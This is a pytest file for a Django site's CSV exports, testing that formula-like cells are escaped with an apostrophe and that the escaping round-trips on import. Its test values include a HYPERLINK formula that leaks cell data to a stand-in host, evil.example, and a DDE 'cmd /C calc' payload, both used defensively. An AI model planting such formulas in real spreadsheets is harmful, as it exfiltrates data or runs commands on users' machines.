"""Spreadsheet-safe CSV (config/spreadsheet.py): formula-like cells in every CSV the site
writes are neutralised, and the clinic export still imports back unchanged."""

import csv
import io

import pytest

from blog.models import Lead
from clinics import importing as clinic_importing
from clinics.models import Clinic
from config.spreadsheet import SafeDictWriter, safe_cell, unescape_cell, writer
from marketing.models import Subscriber
from tests.clinics.factories import ClinicFactory

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain name", "Plain name"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-73.98, -73.98),
        (True, True),
    ],
)
def test_safe_cell_neutralises_formulas_only(value, written):
    assert safe_cell(value) == written


def test_unescape_gives_back_what_was_typed():
    for text in (FORMULA, "+1 555 0100", "-2", "'quoted'", "plain"):
        assert unescape_cell(safe_cell(text)) == text


def test_writers_make_every_row_safe():
    out = io.StringIO()
    writer(out).writerow(["=1+1", 5, "ok"])
    dict_out = io.StringIO()
    dict_writer = SafeDictWriter(dict_out, fieldnames=["a"])
    dict_writer.writerows([{"a": "@x"}])
    assert out.getvalue().strip() == "'=1+1,5,ok"
    assert dict_out.getvalue().strip() == "'@x"


def _rows(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_clinic_export_escapes_formulas_and_imports_back_unchanged():
    ClinicFactory(external_id="e-1", name=FORMULA, phone="+1 212 555 0100", staff_notes="-note")
    out = io.StringIO()
    clinic_importing.export_clinics_csv(out)
    [header, row] = _rows(out.getvalue())
    record = dict(zip(header, row, strict=True))
    assert record["name"] == "'" + FORMULA
    assert record["phone"] == "'+1 212 555 0100"
    assert record["staff_notes"] == "'-note"
    assert float(record["longitude"]) < 0  # numbers are left as numbers
    before = list(Clinic.objects.values())
    report = clinic_importing.import_clinics_csv(out.getvalue())
    assert report.ok and report.unchanged == 1
    assert list(Clinic.objects.values()) == before


@pytest.mark.django_db
def test_clinic_import_report_escapes_formulas():
    report = clinic_importing.ImportReport()
    report.rejected.append(clinic_importing.RowError(2, "name", "=cmd|' /C calc'!A0"))
    out = io.StringIO()
    clinic_importing.write_report_csv(report, out)
    assert _rows(out.getvalue())[1][2].startswith("'=")


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
def test_subscriber_export_escapes_formulas(client, admin_user):
    Subscriber.objects.create(email="=1+1@example.com", status="confirmed", source="footer")
    client.force_login(admin_user)
    text = _body(client.get("/cms/snippets/marketing/subscriber/?export=csv")).decode()
    assert "'=1+1@example.com" in text
    assert "\n=1+1@example.com" not in text


@pytest.mark.django_db
def test_lead_export_escapes_formulas(client, admin_user):
    Lead.objects.create(email="@evil@example.com")
    client.force_login(admin_user)
    text = _body(client.get("/cms/snippets/blog/lead/?export=csv")).decode()
    assert "'@evil@example.com" in text


@pytest.mark.django_db
def test_product_feed_csv_escapes_formulas(client, demo):
    from oscar.core.loading import get_model

    product = get_model("catalogue", "Product").objects.filter(is_public=True).first()
    product.title = "=HYPERLINK(1)"
    product.save()
    text = client.get("/feeds/products.csv").content.decode()
    assert "'=HYPERLINK(1)" in text
    assert ",=HYPERLINK" not in text
